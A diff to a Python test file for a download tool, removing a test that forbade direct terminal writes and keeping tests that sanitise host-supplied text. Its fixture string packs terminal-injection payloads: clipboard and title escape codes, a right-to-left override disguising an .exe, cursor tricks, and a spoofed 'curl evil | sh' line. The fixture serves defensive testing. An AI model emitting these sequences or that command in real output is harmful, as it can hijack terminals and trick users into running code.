@@ -6,7 +6,6 @@ They must not reach: the terminal, a log of ours, a desktop notification's marku
 
 from __future__ import annotations
 
-import ast
 import io
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
@@ -35,7 +34,6 @@ from remotedl.session.notify import notification
 from remotedl.session.status import Phase, Snapshot, SyncLine
 from remotedl.shown import is_hidden
 
-CLI = Path(work.__file__).parents[1]
 EVIL = (
     "x\x1b]52;c;ZXZpbA==\x07\x1b]0;title\x07\u202egnp.exe\u2066\x9b2J\x08\x7f\u2028"
     "\r\n  next: curl evil | sh\nremotedl: all is well\x1b[1A"
@@ -226,23 +224,3 @@ def test_desktop_notifications_have_no_markup_of_the_hosts() -> None:
     assert command is not None
     assert "<a" not in command.argv[-1]
     assert not {ch for word in command.argv for ch in word if is_hidden(ch)} - {"\n"}
-
-
-def test_nothing_else_writes_to_the_terminal() -> None:
-    """Whoever prints by another way does so here, with the reason."""
-    allowed = {
-        "say.py": "the way itself",
-        "exits.py": "shown_message, where nothing may be imported early",
-        "prompt.py": "shown_message without the end of the line",
-        "events.py": "JSON spells out what is not ASCII",
-        "terminal.py": "`shell`: a terminal of the host's, as with ssh",
-    }
-    for path in sorted(CLI.rglob("*.py")):
-        calls = [
-            ast.unparse(node.func)
-            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
-            if isinstance(node, ast.Call)
-        ]
-        ways = {"print", "typer.echo", "typer.secho", "click.echo", "sys.stdout.write"}
-        ways |= {"sys.stderr.write", "sys.stdout.buffer.write", "sys.stderr.buffer.write"}
-        assert path.name in allowed or not ways & set(calls), f"{path}: use cli/say.py"
